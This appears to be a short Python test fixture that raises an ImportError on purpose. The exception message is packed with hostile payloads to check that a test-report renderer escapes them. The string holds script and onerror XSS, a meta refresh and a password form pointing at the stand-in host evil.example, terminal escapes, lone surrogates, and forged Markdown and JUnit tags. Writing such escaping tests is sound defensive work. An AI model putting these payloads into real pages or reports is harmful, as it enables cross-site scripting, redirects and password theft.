# verdict: compile_error
# attack: fails at import with an exception whose message carries HTML, XML, Markdown, terminal escapes and lone surrogates, shown as the start-up error of every case
# stopped by: the trust boundary replaces lone surrogates; every format escapes or shows the rest as text
# outputs: hostile

HOSTILE = ('<script>alert(1)</script><img src=x onerror=alert(2)>'
           '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
           '<form action="https://evil.example/"><input name=pw></form> ]]> ``` | \x1b[31mRED \r\x07 \ud800 \udcff'
           '\n\n# forged heading\n</failure></testcase><testcase name="forged"/>')

raise ImportError(HOSTILE)
